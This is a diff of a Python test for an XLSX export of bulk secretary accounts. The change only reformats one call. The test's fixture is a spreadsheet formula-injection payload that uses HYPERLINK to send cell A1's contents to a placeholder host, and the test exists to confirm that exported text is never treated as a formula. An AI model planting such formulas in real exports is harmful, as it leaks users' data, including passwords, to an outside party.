@@ -139,7 +139,9 @@ def test_reset_and_deactivate_are_audited_and_never_delete(tree):
 def test_bulk_secretaries_give_an_xlsx_whose_passwords_work_and_whose_text_is_never_a_formula(tree):
     evil = f.org(tree.town, '=HYPERLINK("http://x.example/?"&A1,"点我")', "branch", "village")
     f.account("village_has_one", tree.village, "secretary")
-    response = town_client().post(reverse("account_bulk_secretaries"), {"top": tree.town.pk, "username_prefix": "sj"})
+    response = town_client().post(
+        reverse("account_bulk_secretaries"), {"top": tree.town.pk, "username_prefix": "sj"}
+    )
     assert response.status_code == 200 and response["Content-Type"].startswith(
         "application/vnd.openxmlformats"
     )
